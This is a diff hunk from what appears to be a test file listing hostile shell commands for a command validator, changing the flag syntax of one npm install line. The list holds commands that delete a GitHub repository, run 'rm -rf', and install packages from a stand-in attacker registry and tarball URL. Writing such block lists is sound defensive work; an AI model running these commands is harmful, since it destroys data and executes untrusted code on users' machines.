@@ -283,7 +283,7 @@ HOSTILE: dict[str, list[str]] = {
         "gh api -X DELETE /repos/x/y",
         "gh extension install evil/x",
         "npm exec -c 'rm -rf x'",
-        "npm install --registry=evil.example x",
+        "npm install --registry evil.example x",
         "npm install https://evil.example/x.tgz",
         "npm install -g evil",
         "npm install --prefix /tmp/x evil",
